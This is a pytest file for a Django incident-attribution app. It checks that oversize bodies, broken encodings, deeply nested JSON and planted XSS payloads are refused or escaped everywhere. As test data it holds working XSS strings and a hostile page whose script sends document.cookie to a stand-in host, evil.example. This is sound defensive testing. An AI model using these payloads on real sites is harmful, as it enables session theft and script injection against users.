"""Hostile inputs: oversize bodies, invalid UTF-8, NUL characters, deeply nested JSON, pages full of script,
and records whose text is an XSS payload.

What these tests defend:
- an oversize request is refused from its declared Content-Length, before its body is read (the stream
  handed to Django counts every byte taken from it);
- a broken upload (not UTF-8, NUL characters, lone surrogates, JSON nested 100,000 deep) fails its job
  with a message saying why, or is read with replacement characters, and is never an unhandled error;
- a page full of <script>, on*= handlers, javascript: links and <iframe>s leaves none of them in the
  stored source text;
- a payload planted in every text field of a case never becomes markup in the admin, the case pages or
  the exports (HTML, PDF, Markdown): a parser finds no script, handler, javascript: link or injected
  element, and finds the payload as text. Markdown is rendered by a CommonMark renderer with raw HTML and
  every link scheme allowed, so the check does not depend on a renderer's own defences.
"""

import io
import json
import re
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt
from pypdf import PdfReader

from attribution.models import Party, PartyAlias, PartyExternalId
from incidents.feeds import feed_poll
from incidents.models import CaseNote, Feed, FeedEntry, ImportJob, Incident, IncidentSource, Source
from tests.factories import (
    AttributionFactory,
    ConsequenceFactory,
    IncidentFactory,
    PartyFactory,
    ReactionFactory,
    SourceFactory,
)

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
REPORT = (
    "Estonia on Tuesday blamed Russia for the cyberattack that took down government websites on March 3. "
    "The Kremlin denied any involvement in the attack."
)


# --- Oversize requests -------------------------------------------------------------------------------------
class DeclaredBody:
    """A request body of `size` bytes made on demand (head, filler, tail), counting the bytes read from it."""

    def __init__(self, size: int, head: bytes, tail: bytes, content_type: str):
        self.head, self.tail = head, tail
        self.filler = size - len(head) - len(tail)
        self.size, self.content_type, self.position = size, content_type, 0

    @classmethod
    def multipart(cls, size: int, field: str = "file", extra: dict | None = None) -> "DeclaredBody":
        boundary = "hostile-boundary"
        head = "".join(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
            for name, value in (extra or {}).items()
        )
        head += f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; filename="big.txt"\r\n'
        head += "Content-Type: text/plain\r\n\r\n"
        tail = f"\r\n--{boundary}--\r\n"
        return cls(size, head.encode(), tail.encode(), f"multipart/form-data; boundary={boundary}")

    @classmethod
    def json_text(cls, size: int) -> "DeclaredBody":
        return cls(size, b'{"text": "', b'"}', "application/json")

    def _byte_range(self, start: int, end: int) -> bytes:
        filler_end = len(self.head) + self.filler
        out = bytearray(self.head[start : min(end, len(self.head))])
        out += b"x" * max(0, min(end, filler_end) - max(start, len(self.head)))
        if end > filler_end:
            out += self.tail[max(0, start - filler_end) : end - filler_end]
        return bytes(out)

    def read(self, size: int = -1) -> bytes:
        end = self.size if size is None or size < 0 else min(self.size, self.position + size)
        chunk = self._byte_range(self.position, end)
        self.position = end
        return chunk

    def readline(self, size: int = -1) -> bytes:
        line = bytearray()
        while self.position < self.size and (size < 0 or len(line) < size):
            byte = self.read(1)
            line += byte
            if byte == b"\n":
                break
        return bytes(line)

    @property
    def bytes_read(self) -> int:
        return self.position

    def environ(self) -> dict:
        return {"CONTENT_LENGTH": str(self.size), "wsgi.input": self}


def test_the_declared_body_is_what_it_claims():
    body = DeclaredBody.multipart(4096, extra={"kind": "report"})
    whole = body.read()
    assert len(whole) == 4096 and body.bytes_read == 4096
    assert whole.startswith(b"--hostile-boundary\r\n") and whole.endswith(b"\r\n--hostile-boundary--\r\n")
    again = DeclaredBody.multipart(4096)
    assert b"".join(iter(lambda: again.read(1000), b"")) == DeclaredBody.multipart(4096).read()


@pytest.fixture
def researcher_api(api, make_user):
    return api.as_user(make_user("researcher"))


@pytest.mark.parametrize(
    "make_body",
    [
        lambda size: DeclaredBody.multipart(size, extra={"kind": "report"}),
        DeclaredBody.json_text,
    ],
    ids=["multipart-file", "json-text"],
)
def test_an_oversize_api_request_is_refused_before_its_body_is_read(researcher_api, make_body, settings):
    body = make_body(30 * MB)
    response = researcher_api.generic("POST", "/api/v1/imports/", content_type=body.content_type, **body.environ())
    assert response.status_code == 413, response.content[:300]
    assert body.bytes_read == 0
    detail = response.json()["detail"]
    assert f"{30 * MB:,} bytes" in detail and f"{settings.IMPORT_MAX_BYTES:,}" in detail
    assert ImportJob.objects.count() == 0


def test_an_oversize_admin_upload_is_refused_before_its_body_is_read(owner_client, settings):
    body = DeclaredBody.multipart(30 * MB, field="upload", extra={"kind": "report"})
    response = owner_client.generic(
        "POST", "/admin/incidents/importjob/add/", content_type=body.content_type, **body.environ()
    )
    assert response.status_code == 413
    assert body.bytes_read == 0
    assert f"{settings.IMPORT_MAX_BYTES:,}" in response.content.decode()
    assert ImportJob.objects.count() == 0


def test_an_oversize_anonymous_request_is_refused_before_its_body_is_read(client):
    body = DeclaredBody.multipart(30 * MB)
    response = client.generic("POST", "/api/v1/imports/", content_type=body.content_type, **body.environ())
    assert response.status_code == 413 and body.bytes_read == 0


def test_a_file_at_the_limit_is_taken_and_one_byte_more_is_refused_by_its_size(researcher_api, settings, tasks):
    """Between the file limit and the body limit the body is read, and the file's own size is checked."""
    settings.IMPORT_MAX_BYTES = 2000
    at_limit = (REPORT + "\n").encode().ljust(2000, b" ")
    over = at_limit + b" "
    for content, status in ((at_limit, 201), (over, 400)):
        upload = io.BytesIO(content)
        upload.name = "report.txt"
        with tasks():
            response = researcher_api.post("/api/v1/imports/", {"file": upload}, format="multipart")
        assert response.status_code == status, response.content
    assert "larger than the limit of 2,000 bytes" in response.json()["file"][0]
    assert ImportJob.objects.get().status == "succeeded"


# --- Broken uploads: never an unhandled error ----------------------------------------------------------------
def _upload(api, tasks, kind: str, name: str, content: bytes, **fields) -> ImportJob:
    """Submit through the API as a user would; with eager tasks an unhandled error in the job would raise here."""
    upload = io.BytesIO(content)
    upload.name = name
    with tasks():
        response = api.post("/api/v1/imports/", {"kind": kind, "file": upload, **fields}, format="multipart")
    assert response.status_code == 201, response.content
    job = ImportJob.objects.get(pk=response.json()["id"])
    assert job.status in ("failed", "succeeded", "partial") and job.finished_at is not None
    return job


BAD_UTF8 = b"Estonia blamed Russia \xff\xfe\xc3\x28 for the attack on government websites on March 3.\n"
STIX_HEAD = (
    '{"type":"bundle","id":"bundle--6f4b9a1e-2c3d-4e5f-8a9b-0c1d2e3f4a5b","objects":[{"type":"intrusion-set",'
    '"spec_version":"2.1","id":"intrusion-set--6f4b9a1e-2c3d-4e5f-8a9b-0c1d2e3f4a5c",'
    '"created":"2022-01-01T00:00:00.000Z","modified":"2022-01-01T00:00:00.000Z","name":"'
)


def stix_named(name: str) -> bytes:
    return (STIX_HEAD + name + '"}]}').encode()


def galaxy_named(name: str) -> bytes:
    return (
        '{"type":"threat-actor","name":"Threat actors","uuid":"6f4b9a1e-2c3d-4e5f-8a9b-0c1d2e3f4a5b","values":'
        '[{"value":"' + name + '","uuid":"6f4b9a1e-2c3d-4e5f-8a9b-0c1d2e3f4a5d"}]}'
    ).encode()


def misp_event_named(info: str, org: str = "CERT-EE") -> bytes:
    return (
        '{"Event":{"uuid":"6f4b9a1e-2c3d-4e5f-8a9b-0c1d2e3f4a5b","info":"' + info + '","date":"2023-03-03",'
        '"Orgc":{"name":"' + org + '"}}}'
    ).encode()


@pytest.mark.parametrize(
    ("kind", "name", "fields", "message"),
    [
        ("report", "report.txt", {}, r"The text is not valid UTF-8 \(byte 22\); save it as UTF-8"),
        ("stix", "bundle.json", {}, r"Not a JSON file: 'utf-8' codec can't decode byte 0xff in position 22"),
        ("misp_event", "event.json", {}, r"Not a JSON file: 'utf-8' codec can't decode byte 0xff in position 22"),
        ("actors", "clusters.json", {}, r"Not a JSON file: 'utf-8' codec can't decode byte 0xff in position 22"),
        ("dataset", "cases.csv", {"format": "csv"}, r"not UTF-8 text \(byte 22\)"),
        ("dataset", "cfr.csv", {"format": "cfr"}, r"Not a UTF-8 text file \(byte 22 cannot be read\)"),
        ("dataset", "eurepoc.csv", {"format": "eurepoc"}, r"not UTF-8 text \(byte 22\)"),
    ],
)
def test_an_upload_that_is_not_utf8_fails_its_job_saying_where(researcher_api, tasks, kind, name, fields, message):
    job = _upload(researcher_api, tasks, kind, name, BAD_UTF8, **fields)
    assert job.status == "failed" and re.search(message, job.errors[0]), job.errors
    assert Source.objects.count() == 0 and Incident.objects.count() == 0


def test_an_html_page_that_is_not_utf8_is_read_with_replacement_characters(researcher_api, tasks):
    page = b"<html><body><article><p>" + BAD_UTF8 + b"</p><p>" + REPORT.encode() + b"</p></article></body></html>"
    job = _upload(researcher_api, tasks, "report", "page.html", page)
    assert job.status == "succeeded", job.errors
    text = Source.objects.get().text
    assert "The Kremlin denied any involvement" in text and text.encode("utf-8")  # storable, readable text


def test_nul_characters_in_a_text_report_are_dropped_not_a_database_error(researcher_api, tasks):
    """PostgreSQL cannot store NUL in text; a report holding some (a PDF's broken font map, a pasted binary
    fragment) is imported without them."""
    job = _upload(researcher_api, tasks, "report", "report.txt", f"{REPORT}\n\x00\x00 trailing\x00 words\n".encode())
    assert job.status == "succeeded", job.errors
    source = Source.objects.get()
    assert "\x00" not in source.text and "trailing words" in source.text


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("stix", stix_named("Evil\\u0000Group")),
        ("stix", stix_named("Evil\\ud800Group")),
        ("actors", galaxy_named("Evil\\u0000Group")),
        ("actors", galaxy_named("Evil\\ud800Group")),
        ("misp_event", misp_event_named("Defacement\\u0000of ministries")),
        ("misp_event", misp_event_named("Defacement", org="CERT\\ud800")),
    ],
    ids=["stix-nul", "stix-surrogate", "actors-nul", "actors-surrogate", "misp-nul", "misp-surrogate"],
)
def test_nul_and_lone_surrogate_escapes_in_json_never_break_the_job(researcher_api, tasks, kind, content):
    """JSON may spell characters no database text column takes (\\u0000, a lone \\ud800). Whatever the
    importer makes of the item, the job ends with a status, and its stored messages are readable text."""
    job = _upload(researcher_api, tasks, kind, "input.json", content)
    job.refresh_from_db()
    stored = json.dumps([job.errors, job.result, job.counts], ensure_ascii=False)
    assert "\x00" not in stored and not re.search("[\ud800-\udfff]", stored)
    if job.status != "succeeded":
        assert job.errors, "a job that did not succeed says why"


def test_pasted_text_with_nul_or_surrogates_is_refused_by_the_api(researcher_api):
    for escaped, message in (("\\u0000", "Null characters"), ("\\ud800", "Surrogate characters")):
        body = '{"text": "Estonia blamed Russia ' + escaped + ' for the attack."}'
        response = researcher_api.generic("POST", "/api/v1/imports/", body, content_type="application/json")
        assert response.status_code == 400 and message in response.json()["text"][0], response.content
    assert ImportJob.objects.count() == 0


def test_a_feed_with_broken_bytes_and_nul_references_is_polled_without_error(httpserver, settings, tasks):
    """A feed may carry bytes that are not UTF-8 and character references XML forbids (&#0;)."""
    settings.IMPORT_ALLOW_PRIVATE_ADDRESSES = True
    httpserver.expect_request("/article").respond_with_data(
        f"<html><body><article><p>{REPORT}</p></article></body></html>", content_type="text/html"
    )
    rss = (
        b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>News \xff</title><item>'
        b"<title>Estonia \xfe blames &#0; Russia</title><link>" + httpserver.url_for("/article").encode() + b"</link>"
        b"<guid>urn:hostile:&#0;1</guid></item></channel></rss>"
    )
    httpserver.expect_request("/feed").respond_with_data(rss, content_type="application/rss+xml")
    feed = Feed.objects.create(name="Broken", url=httpserver.url_for("/feed"))
    with tasks():
        poll = feed_poll(feed=feed)
    feed.refresh_from_db()
    assert poll.outcome in ("polled", "failed"), poll.line()
    if poll.outcome == "failed":
        assert "not an RSS or Atom feed" in feed.last_error
    else:
        entry = FeedEntry.objects.get()
        assert "\x00" not in entry.title and "Estonia" in entry.title
        assert ImportJob.objects.get().status == "succeeded"


# --- Deeply nested JSON ------------------------------------------------------------------------------------
DEEP_ARRAY = b"[" * 100_000 + b"]" * 100_000
DEEP_OBJECT = b'{"a":' * 100_000 + b"1" + b"}" * 100_000


@pytest.mark.parametrize("kind", ["stix", "misp_event", "actors"])
@pytest.mark.parametrize("content", [DEEP_ARRAY, DEEP_OBJECT], ids=["arrays", "objects"])
def test_json_nested_100000_deep_fails_the_job_clearly(researcher_api, tasks, kind, content):
    job = _upload(researcher_api, tasks, kind, "deep.json", content)
    assert job.status == "failed" and re.search(r"nested too deeply|maximum recursion depth", job.errors[0]), job.errors
    assert Party.objects.filter(review_status="draft").count() == 0 and Incident.objects.count() == 0


def test_a_csv_cell_of_deeply_nested_json_is_one_bad_row(researcher_api, tasks):
    import csv

    from incidents.datasets import FORMAT_VERSION
    from incidents.importers.csvdataset import REQUIRED

    row = dict.fromkeys(REQUIRED, "[]") | {"format_version": FORMAT_VERSION, "title": "Deep", "slug": "deep-case"}
    row["attributions"] = "[" * 100_000 + "]" * 100_000
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=sorted(REQUIRED))
    writer.writeheader()
    writer.writerow(row)
    job = _upload(researcher_api, tasks, "dataset", "cases.csv", buffer.getvalue().encode(), format="csv")
    assert job.status in ("failed", "partial") and re.search(r"line 2 \(deep-case\): .*recursion", job.errors[0])
    assert Incident.objects.filter(slug="deep-case").count() == 0


def test_an_api_body_nested_100000_deep_is_a_400_not_a_500(researcher_api):
    for path in ("/api/v1/imports/", "/api/v1/incidents/"):
        response = researcher_api.generic("POST", path, DEEP_ARRAY, content_type="application/json")
        assert response.status_code == 400, (path, response.status_code)
        assert "nested too deeply" in response.json()["detail"]


# --- HTML full of script -------------------------------------------------------------------------------------
HOSTILE_PAGE = f"""<!doctype html><html><head><title>Estonia blames Russia</title>
<script>alert('head')</script><style>body {{ background: url("javascript:alert('css')") }}</style>
<meta http-equiv="refresh" content="0;url=javascript:alert('meta')"></head>
<body onload="alert('body')"><article><h1>Estonia blames Russia</h1>
<p>{REPORT.split(". ")[0]}.<script>document.location='http://evil.example/?c='+document.cookie</script></p>
<p><img src=x onerror="alert('img')">{REPORT.split(". ")[1]}<a href="javascript:alert('link')">Read more</a></p>
<iframe src="javascript:alert('frame')"></iframe><svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<p>More reporting about the incident followed later in the day.</p>
<noscript><script>alert('noscript')</script></noscript><object data="javascript:alert('object')"></object>
<form action="javascript:alert('form')"><button formaction="javascript:alert('button')">Go</button></form>
</article></body></html>"""

SCRIPT_TRACES = ["alert(", "document.cookie", "<script", "onerror", "onload", "javascript:", "<iframe", "<svg"]


def _imported_from(how: str, researcher_api, tasks, httpserver, settings) -> ImportJob:
    if how == "upload":
        return _upload(researcher_api, tasks, "report", "page.html", HOSTILE_PAGE.encode())
    settings.IMPORT_ALLOW_PRIVATE_ADDRESSES = True
    httpserver.expect_request("/news").respond_with_data(HOSTILE_PAGE, content_type="text/html; charset=utf-8")
    with tasks():
        response = researcher_api.post("/api/v1/imports/", {"url": httpserver.url_for("/news")}, format="json")
    return ImportJob.objects.get(pk=response.json()["id"])


@pytest.mark.parametrize("how", ["upload", "url"])
def test_a_page_full_of_script_is_stored_as_its_text_only(how, researcher_api, tasks, httpserver, settings, client):
    job = _imported_from(how, researcher_api, tasks, httpserver, settings)
    assert job.status == "succeeded", job.errors
    source = Source.objects.get()
    assert "blamed Russia for the cyberattack" in source.text and "The Kremlin denied" in source.text
    stored = " ".join([source.title, source.text, source.author])
    assert not [trace for trace in SCRIPT_TRACES if trace in stored], stored
    incident = Incident.objects.get()
    Incident.objects.filter(pk=incident.pk).update(review_status="confirmed")
    Source.objects.update(review_status="confirmed")
    for path in (f"/cases/{incident.slug}/", f"/cases/{incident.slug}/report.html"):
        assert_no_active_content(client.get(path).content.decode(), path)


# --- XSS: payloads in every text field, rendered everywhere ------------------------------------------------
SCRIPT = "<script>alert(1)</script>"
BREAKOUT = '"><img src=x onerror=alert(1)>'
SINGLE_BREAKOUT = "'><svg/onload=alert(1)>"
JS_URL = "javascript:alert(1)"
PAYLOADS = [SCRIPT, BREAKOUT, SINGLE_BREAKOUT]
EVIL = f"{SCRIPT} {BREAKOUT} {SINGLE_BREAKOUT}"

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcdoc"}
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:text/html")


class Markup(HTMLParser):
    """What a browser would run in a page: inline script, on* handlers, script URLs, injected elements;
    and what it would show (text and attribute values)."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.active: list[str] = []
        self.shown: list[str] = []
        self._script: tuple[dict, list[str]] | None = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            value = value or ""
            self.shown.append(value)
            if name.startswith("on"):
                self.active.append(f"<{tag} {name}={value!r}>")
            squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
            if name in URL_ATTRIBUTES and squeezed.startswith(SCRIPT_SCHEMES):
                self.active.append(f"<{tag} {name}={value!r}>")
        if tag in ("iframe", "object", "embed", "frame", "frameset", "base"):
            self.active.append(f"<{tag}>")
        if tag == "meta" and "refresh" in (attributes.get("http-equiv") or "").lower():
            self.active.append("<meta http-equiv=refresh>")
        if tag == "img" and attributes.get("src") == "x":
            self.active.append("<img src=x>")
        if tag == "svg" and any(name.startswith("on") for name in attributes):
            self.active.append("<svg on…>")
        if tag == "script":
            self._script = (attributes, [])

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.handle_endtag(tag)

    def handle_data(self, data):
        if self._script is not None:
            self._script[1].append(data)
        else:
            self.shown.append(data)

    def handle_endtag(self, tag):
        if tag != "script" or self._script is None:
            return
        attributes, parts = self._script
        content = "".join(parts)
        self._script = None
        if (attributes.get("type") or "").endswith("json"):
            json.loads(content)  # data for scripts: must be well-formed, with <, > and & escaped
            if re.search(r"[<>]", content):
                self.active.append(f"JSON script with raw markup: {content[:80]!r}")
        elif "alert(" in content or "document.cookie" in content:
            self.active.append(f"<script>{content[:80]}</script>")

    def text(self) -> str:
        return " ".join(self.shown)


def assert_no_active_content(
    html: str, where: str, *, shows: tuple[str, ...] = (), shows_one_of: tuple[str, ...] = ()
) -> None:
    """No active content in the page; each of `shows`, and at least one of `shows_one_of`, is shown as text
    (so the planted record was rendered, escaped)."""
    markup = Markup(html)
    assert not markup.active, f"{where}: {markup.active}"
    for raw in PAYLOADS:
        assert raw not in html, f"{where}: {raw} appears unescaped"
    shown = markup.text()
    for payload in shows:
        assert payload in shown, f"{where}: {payload!r} is not shown as text (was the record rendered?)"
    if shows_one_of:
        assert any(payload in shown for payload in shows_one_of), f"{where}: no planted text is shown"


def test_the_markup_checker_catches_each_trick():
    """The checker itself: each payload, unescaped, is caught; escaped, it is shown as text."""
    for payload in [*PAYLOADS, f'<a href="{JS_URL}">x</a>', '<a href=" jav&#x09;ascript:alert(1)">x</a>']:
        assert Markup(f"<p>{payload}</p>").active, payload
    from django.utils.html import escape

    for payload in PAYLOADS:
        assert_no_active_content(f"<p title='{escape(payload)}'>{escape(payload)}</p>", "escaped", shows=(payload,))


@pytest.fixture
def planted(db):
    """A confirmed TLP:CLEAR case whose every text field holds the payloads, with a javascript: source URL."""
    accused = PartyFactory(name=f"APT {SCRIPT}"[:200], kind="threat_group", country="RU", description=EVIL)
    accused.review_status = "confirmed"
    accused.save()
    PartyAlias.objects.create(party=accused, name=f"Alias {BREAKOUT}")
    PartyExternalId.objects.create(party=accused, system="misp_galaxy", value=f"id {SCRIPT}")
    PartyExternalId.objects.filter(party=accused).update(url=JS_URL)
    accuser = PartyFactory(name=f"Vendor {BREAKOUT}", kind="company", country="", review_status="confirmed")
    quote = f"Quoted {SCRIPT} and {BREAKOUT}"
    source = SourceFactory(
        title=f"Report {SCRIPT}", publisher=BREAKOUT, text=f"Lead. {quote} End.", review_status="confirmed"
    )
    Source.objects.filter(pk=source.pk).update(url=JS_URL)
    web = SourceFactory(title="Second", url="https://example.org/a", review_status="confirmed")
    Source.objects.filter(pk=web.pk).update(url='https://example.org/?q="><script>alert(1)</script>')
    summary = (
        f'First {SCRIPT}.\n\n# Not a heading {BREAKOUT}\n\n[click]({JS_URL}) <a href="{JS_URL}">x</a> '
        f"![img](x) <img src=x onerror=alert(1)> {SINGLE_BREAKOUT}"
    )
    case = IncidentFactory(
        slug="xss-case", title=f"Case {SCRIPT}", summary=summary, sector=BREAKOUT, **{"review_status": "confirmed"}
    )
    related = IncidentFactory(slug="xss-related", title=f"Related {BREAKOUT}", review_status="confirmed")
    case.related_incidents.add(related)
    confirmed = {"review_status": "confirmed", "source": source, "incident": case}
    AttributionFactory(
        made_by=accuser, attributed_to=accused, quote=quote, confidence_text=SCRIPT, note=BREAKOUT, **confirmed
    )
    ReactionFactory(party=accused, quote=quote, note=SINGLE_BREAKOUT, **confirmed)
    ConsequenceFactory(
        initiated_by=accuser, target=accused, description=EVIL, legal_instrument=BREAKOUT, quote=quote, **confirmed
    )
    CaseNote.objects.create(incident=case, body=EVIL)
    job = ImportJob.objects.create(input_name=f"{SCRIPT}.txt", errors=[EVIL], progress_message=BREAKOUT)
    feed = Feed.objects.create(name=f"Feed {SCRIPT}", url="https://example.org/feed.xml", last_error=EVIL)
    FeedEntry.objects.create(feed=feed, key="k", url="https://example.org/a", title=EVIL, job=job)
    FeedEntry.objects.filter(feed=feed).update(url=JS_URL)
    for linked in (source, web):
        IncidentSource.objects.create(incident=case, source=linked)
    return case


ADMIN_LISTS = [
    "incidents/incident",
    "incidents/source",
    "attribution/party",
    "attribution/partyalias",
    "attribution/partyexternalid",
    "attribution/attribution",
    "attribution/reaction",
    "attribution/consequence",
    "incidents/casenote",
    "incidents/importjob",
    "incidents/feed",
]


def _admin_pages() -> list[str]:
    from django.apps import apps

    pages = []
    for label in ADMIN_LISTS:
        app, model = label.split("/")
        pages.append(f"/admin/{label}/")
        for pk in apps.get_model(app, model).objects.values_list("pk", flat=True):
            pages.append(f"/admin/{label}/{pk}/change/")
    incident = Incident.objects.get(slug="xss-case")
    pages += [f"/admin/incidents/incident/{incident.pk}/history/", f"/admin/incidents/incident/?q={SCRIPT}"]
    return pages


def test_no_admin_page_runs_planted_text(planted, owner_client):
    for path in _admin_pages():
        response = owner_client.get(path)
        assert response.status_code == 200, path
        assert_no_active_content(response.content.decode(), path, shows_one_of=PAYLOADS)
    case_page = owner_client.get(f"/admin/incidents/incident/{planted.pk}/change/").content.decode()
    assert_no_active_content(case_page, "incident change page", shows=(f"Case {SCRIPT}", BREAKOUT))
    listing = owner_client.get("/admin/incidents/importjob/").content.decode()
    assert_no_active_content(listing, "import jobs", shows=(f"{SCRIPT}.txt",))


def test_no_case_page_runs_planted_text(planted, client):
    for path in ("/cases/", f"/cases/{planted.slug}/", f"/cases/{planted.slug}/report.html"):
        response = client.get(path)
        assert response.status_code == 200, path
        assert_no_active_content(response.content.decode(), path, shows=(f"Case {SCRIPT}",))
    page = client.get(f"/cases/{planted.slug}/").content.decode()
    assert_no_active_content(
        page, "case page", shows=(quote_of(planted), f"Report {SCRIPT}", BREAKOUT, SINGLE_BREAKOUT, JS_URL)
    )
    assert not re.search(r"<a [^>]*href=\"\s*javascript", page, re.I)
    assert 'href="https://example.org/?q=&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"' in page
    overview = client.get("/cases/", {"q": SCRIPT}).content.decode()
    assert_no_active_content(overview, "overview search")


def test_the_browsable_api_runs_no_planted_text(planted, owner_client):
    response = owner_client.get(f"/api/v1/incidents/{planted.pk}/", HTTP_ACCEPT="text/html")
    if not response["Content-Type"].startswith("text/html"):
        pytest.skip("the browsable API is switched off")
    assert_no_active_content(response.content.decode(), "browsable API")


def quote_of(case: Incident) -> str:
    return case.attributions.get().quote


def _rendered_markdown(markdown: str) -> str:
    """The Markdown as HTML by a CommonMark renderer with raw HTML on and every link scheme allowed."""
    renderer = MarkdownIt("commonmark", {"html": True}).enable("table")
    renderer.validateLink = lambda url: True
    return renderer.render(markdown)


def test_the_markdown_export_stays_text_under_a_permissive_renderer(planted, client):
    markdown = client.get(f"/cases/{planted.slug}/report.md").content.decode()
    for raw in PAYLOADS:
        assert raw not in markdown
    assert not re.search(rf"(?<!\\)\]\({re.escape(JS_URL)}", markdown)  # a link only with an unescaped ]
    assert f"<{JS_URL}>" not in markdown
    html = _rendered_markdown(markdown)
    assert_no_active_content(html, "rendered Markdown", shows=(f"Case {SCRIPT}", quote_of(planted), BREAKOUT))
    tokens = MarkdownIt("commonmark").enable("table").parseInline(markdown)
    links = [t.attrGet("href") for block in tokens for t in (block.children or []) if t.type == "link_open"]
    assert all(str(href).startswith(("http://", "https://")) for href in links), links


def test_the_pdf_export_prints_the_payloads_as_text_and_links_nowhere_else(planted, client):
    response = client.get(f"/cases/{planted.slug}/report.pdf")
    assert response.status_code == 200 and response.content.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(response.content))
    text = " ".join(" ".join(page.extract_text() for page in reader.pages).split())
    assert f"Case {SCRIPT}" in text and "onerror=alert(1)" in text  # printed as text, never laid out as markup
    uris = [
        str(annotation.get_object().get("/A", {}).get("/URI", ""))
        for page in reader.pages
        for annotation in page.get("/Annots") or []
    ]
    assert not [uri for uri in uris if not uri.startswith(("http://", "https://", "/cases/"))], uris
